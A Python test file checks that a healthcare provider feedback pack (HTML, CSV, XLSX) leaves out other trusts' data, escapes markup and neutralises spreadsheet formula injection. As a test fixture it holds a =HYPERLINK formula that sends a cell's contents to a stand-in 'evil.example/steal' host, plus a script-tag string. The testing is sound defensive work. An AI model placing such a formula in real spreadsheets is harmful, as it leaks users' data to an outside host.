"""The pack's workbook and CSV: the provider's own data only, safe from formula injection."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from collectonce.feedback.pack import (
    DATA_COLUMNS,
    build_pack,
    neutralise_frame,
    render_pack_html,
    write_pack_csv,
    write_pack_xlsx,
)

INJECTION = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click for details")'
OTHERS = ("RF4", "R1H", "RQM", "Barking", "Barts")


def series(ods: str, metric: str, values: list[float], comment: str = "") -> pd.DataFrame:
    n = len(values)
    return pd.DataFrame(
        {
            "provider_code": ods,
            "period": [
                (pd.Timestamp("2018-04-01") + pd.DateOffset(months=i)).date() for i in range(n)
            ],
            "metric_id": metric,
            "value": values,
            "value_status": "reported",
            "is_derived": False,
            "is_late": False,
            "revision": 1,
            "comment": comment,
        }
    )


@pytest.fixture
def rrk_with_formula_comment() -> pd.DataFrame:
    """RRK's comment starts with '='; three other trusts share the table."""
    rng = np.random.default_rng(7)
    frames = [
        series(ods, "ae_attendances_type1", list(9000 + rng.normal(0, 300, 15).round()))
        for ods in ("RF4", "R1H", "RQM")
    ]
    frames.append(
        series("RRK", "ae_attendances_type1", list(9500 + rng.normal(0, 300, 15).round()))
    )
    rrk = series("RRK", "ae_breaches_4hr_type1", list(1500 + rng.normal(0, 90, 15).round()))
    rrk.loc[3, "comment"] = INJECTION
    rrk.loc[4, "comment"] = "-1 bed closed"
    frames.append(rrk)
    return pd.concat(frames, ignore_index=True)


def workbook_cells(path: Path) -> dict[str, list[list[object]]]:
    book = openpyxl.load_workbook(path)
    return {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in book}


def test_pack_files_hold_no_other_providers_code_or_name(
    catalog_min, rrk_with_formula_comment, tmp_path
):
    """It leaves every other provider's ODS code and name out of the HTML, CSV and XLSX."""
    receipt = {
        "submission_id": "s1",
        "status": "accepted",
        "rows_accepted": 15,
        "rows_rejected": 0,
        "findings": [],
        "original_name": "march.csv",
        "received_at": "2019-04-01T10:00:00+00:00",
        "providers": ["RRK"],
    }
    pack = build_pack(catalog_min, rrk_with_formula_comment, "RRK", [receipt])
    html = render_pack_html(pack)
    write_pack_csv(pack, tmp_path / "p.csv")
    write_pack_xlsx(pack, tmp_path / "p.xlsx")
    csv_text = (tmp_path / "p.csv").read_text(encoding="utf-8")
    cells = " ".join(
        str(c) for rows in workbook_cells(tmp_path / "p.xlsx").values() for r in rows for c in r
    )

    for text in (html, csv_text, cells):
        assert "RRK" in text
        for other in OTHERS:
            assert other not in text
    assert pack.panels[0].peer is not None  # peers were compared, only as summaries


def test_workbook_neutralises_formula_text_and_keeps_numbers(
    catalog_min, rrk_with_formula_comment, tmp_path
):
    """It writes '=HYPERLINK(..)' and '-1 ...' comments as text with a leading apostrophe."""
    pack = build_pack(catalog_min, rrk_with_formula_comment, "RRK")
    path = write_pack_xlsx(pack, tmp_path / "pack.xlsx")
    sheets = workbook_cells(path)

    assert list(sheets)[:3] == ["Summary", "Data", "Metrics"]
    assert {"Charts", "README"} <= set(sheets)
    header, *rows = sheets["Data"]
    assert header == DATA_COLUMNS
    comments = [r[header.index("comment")] for r in rows if r[header.index("comment")]]
    assert "'" + INJECTION in comments
    assert "'-1 bed closed" in comments
    book = openpyxl.load_workbook(path)
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@"))
    values = [r[header.index("value")] for r in rows]
    assert all(isinstance(v, float | int) for v in values)
    assert isinstance(rows[0][header.index("period")], dt.datetime)


def test_csv_is_the_data_sheet_neutralised(catalog_min, rrk_with_formula_comment, tmp_path):
    """It writes the Data sheet as CSV with the same neutralised text and numeric values."""
    pack = build_pack(catalog_min, rrk_with_formula_comment, "RRK")
    path = write_pack_csv(pack, tmp_path / "pack.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))

    assert list(rows[0]) == DATA_COLUMNS
    assert len(rows) == 30
    assert {r["provider"] for r in rows} == {"RRK"}
    assert "'" + INJECTION in [r["comment"] for r in rows]
    assert all(float(r["value"]) > 0 for r in rows)
    special = [r for r in rows if r["metric"] == "ae_attendances_type1"]
    assert all(r["lpl"] and r["upl"] for r in special)


def test_neutraliser_leaves_numbers_and_plain_text_alone():
    """It prefixes only text that a spreadsheet would run, and never touches numbers."""
    frame = pd.DataFrame({"a": ["=1+1", "+x", "@SUM(A1)", "\tx", "plain", "-3"], "b": range(6)})
    out = neutralise_frame(frame)
    assert out["a"].tolist() == ["'=1+1", "'+x", "'@SUM(A1)", "'\tx", "plain", "'-3"]
    assert out["b"].tolist() == list(range(6))
    assert frame["a"].iloc[0] == "=1+1"  # the input is not modified


def test_html_escapes_comment_markup(catalog_min, tmp_path):
    """It shows a comment holding markup as text, never as HTML."""
    frame = series("RRK", "ae_attendances_type1", [1.0, 2.0, 3.0], comment="<script>x</script>")
    html = render_pack_html(build_pack(catalog_min, frame, "RRK"))
    assert "<script>" not in html
    assert "&lt;script&gt;x&lt;/script&gt;" in html


def test_csv_writes_big_counts_whole_and_rounds_shares(catalog_min, tmp_path: Path) -> None:
    """A count over a million is written 1234567, never 1.23457e+06; a share keeps two places."""
    big = series("RRK", "ae_attendances_type1", [1_234_567.0 + i for i in range(15)])
    share = series("RRK", "ae_4hr_performance_type1", [86.786812 + i / 7 for i in range(15)])
    share["is_derived"] = True
    pack = build_pack(catalog_min, pd.concat([big, share], ignore_index=True), "RRK")
    path = write_pack_csv(pack, tmp_path / "rrk.csv")
    text = path.read_text(encoding="utf-8")
    assert "e+0" not in text
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    counts = [r for r in rows if r["metric"] == "ae_attendances_type1"]
    assert counts[0]["value"] == "1234567"
    shares = [r for r in rows if r["metric"] == "ae_4hr_performance_type1"]
    assert shares[0]["value"] == "86.79"
